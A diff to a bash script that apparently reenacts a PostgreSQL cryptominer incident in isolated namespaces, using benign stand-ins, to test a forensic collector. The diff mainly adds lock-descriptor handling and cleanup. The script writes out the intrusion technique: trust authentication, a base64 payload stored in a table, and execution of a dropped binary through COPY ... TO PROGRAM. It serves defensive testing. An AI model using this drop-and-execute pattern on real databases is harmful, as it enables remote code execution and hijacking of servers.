@@ -60,6 +60,9 @@ LOCK=/run/cordon-reenact.lock
 log "taking $LOCK"
 exec 9>"$LOCK"
 flock -w 900 9 || die "another reenactment has held $LOCK for 15 minutes"
+# Every process that may outlive a crashed run (the server, the pool, the
+# collector, the attacker's session) starts with fd 9 closed (9>&-): else it
+# would hold the lock, and the next run could never take it to sweep them.
 
 RUN=$$
 VNS=cordon-victim-$RUN ANS=cordon-attacker-$RUN
@@ -72,13 +75,14 @@ WORK=$(mktemp -d /tmp/cordon-reenact.XXXXXX)
 chmod 755 "$WORK"
 
 # kill_standins kills every stand-in: the watchdog and miner (the deleted
-# /tmp/mysql) and the pools of this and earlier runs.
+# /tmp/mysql) and the pools of this and earlier runs, and the collector of
+# an earlier run that crashed.
 # One find reads every exe link (a readlink per process is hundreds of
 # forks, slow on a loaded machine).
 kill_standins() {
   local exe pid
   # (find fails on the processes that end while it reads: not an error here)
-  { find /proc -mindepth 2 -maxdepth 2 -name exe \( -lname '/tmp/mysql*' -o -lname '/tmp/cordon-reenact.*/standin*' \) 2>/dev/null || true; } |
+  { find /proc -mindepth 2 -maxdepth 2 -name exe \( -lname '/tmp/mysql*' -o -lname '/tmp/cordon-reenact.*/standin*' -o -lname '/tmp/cordon-reenact.*/cordon-collect*' \) 2>/dev/null || true; } |
     while read -r exe; do
       pid=${exe#/proc/}
       kill -9 "${pid%/exe}" 2>/dev/null || true
@@ -88,7 +92,7 @@ kill_standins() {
 # sweep_stale removes what a crashed earlier run left (the lock is held:
 # nothing of the kind belongs to a live run).
 sweep_stale() {
-  local c ns
+  local c ns d
   kill_standins
   for c in $(pg_lsclusters -h 2>/dev/null | awk -v v="$PGVER" '$1 == v && $2 ~ /^cordonreenact/ {print $2}'); do
     log "removing the stale cluster $c"
@@ -100,6 +104,9 @@ sweep_stale() {
     ip netns del "$ns" 2>/dev/null || true
   done
   rm -f /tmp/mysql
+  for d in /tmp/cordon-reenact.*; do
+    [ "$d" = "$WORK" ] || rm -rf "$d"
+  done
 }
 
 cleanup() {
@@ -156,7 +163,7 @@ log_statement = 'all'
 unix_socket_directories = '$WORK/pgsocket'
 CONF
 echo "host all all all trust" >> "$conf/pg_hba.conf"
-ip netns exec "$VNS" pg_ctlcluster --skip-systemctl-redirect "$PGVER" "$CLUSTER" start
+ip netns exec "$VNS" pg_ctlcluster --skip-systemctl-redirect "$PGVER" "$CLUSTER" start 9>&-
 PGPID=$(head -n1 "/var/lib/postgresql/$PGVER/$CLUSTER/postmaster.pid")
 [ -d "/proc/$PGPID" ] || die "the postmaster ($PGPID in postmaster.pid) is not running"
 wait_for "PostgreSQL to accept connections on $VIP:$PGPORT" 60 \
@@ -168,7 +175,7 @@ wait_for "PostgreSQL to accept connections on $VIP:$PGPORT" 60 \
 in_victim() { nsenter -t "$PGPID" -n -m -- "$@"; }
 
 log "stand-in pool on 127.0.0.1:3333 in $VNS"
-nsenter -t "$PGPID" -n -m -- env CORDON_STANDIN_LIFETIME=600 "$WORK/standin" pool 3333 &
+nsenter -t "$PGPID" -n -m -- env CORDON_STANDIN_LIFETIME=600 "$WORK/standin" pool 3333 9>&- &
 disown $! # its end by kill -9 at cleanup is expected: no job report
 
 # --capture-lead is only an upper bound: SIGUSR1 ends it once the attack
@@ -181,7 +188,7 @@ nsenter -t "$PGPID" -n -m -- "$WORK/cordon-collect" -o "$OUT" --force \
   --case CORDON-SAMPLE-REENACT --examiner "samples/reenact.sh" \
   --note "benign reenactment of shared/scenario/incident-report-ci-build-agent-miner.txt" \
   --capture lo --capture "$VETH_V" --capture-lead "${LEAD}s" --capture-for "$((LEAD + 10))s" \
-  "$@" 2> >(tee "$WORK/collect.err" >&2) &
+  "$@" 9>&- 2> >(tee "$WORK/collect.err" >&2 9>&-) &
 COLLECT_PID=$!
 
 collector_alive() { kill -0 "$COLLECT_PID" 2>/dev/null || die "cordon-collect ended early: $(tail -n 5 "$WORK/collect.err")"; }
@@ -196,7 +203,7 @@ wait_for "cordon-collect to say its capture runs on lo and $VETH_V" 180 capture_
 log "attacker $AIP connects to $VIP:$PGPORT and drops /tmp/mysql through COPY ... TO PROGRAM"
 payload=$(base64 -w0 "$WORK/standin")
 export PGCONNECT_TIMEOUT=30
-ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres -v ON_ERROR_STOP=1 >/dev/null <<SQL
+ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres -v ON_ERROR_STOP=1 >/dev/null 9>&- <<SQL
 SELECT version();
 CREATE TABLE IF NOT EXISTS cordon_payload(b text);
 INSERT INTO cordon_payload VALUES ('$payload');
@@ -206,7 +213,7 @@ SQL
 # The second session starts the dropped binary; COPY waits for the program,
 # so the watchdog stays a child of its PostgreSQL backend, as in the incident.
 ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres \
-  -c "COPY (SELECT 1) TO PROGRAM 'exec /tmp/mysql >/dev/null 2>&1'" >/dev/null 2>&1 &
+  -c "COPY (SELECT 1) TO PROGRAM 'exec /tmp/mysql >/dev/null 2>&1'" >/dev/null 2>&1 9>&- &
 ATTACK_PID=$!
 
 # miners prints the PIDs of the stand-in's miners of this run: the deleted
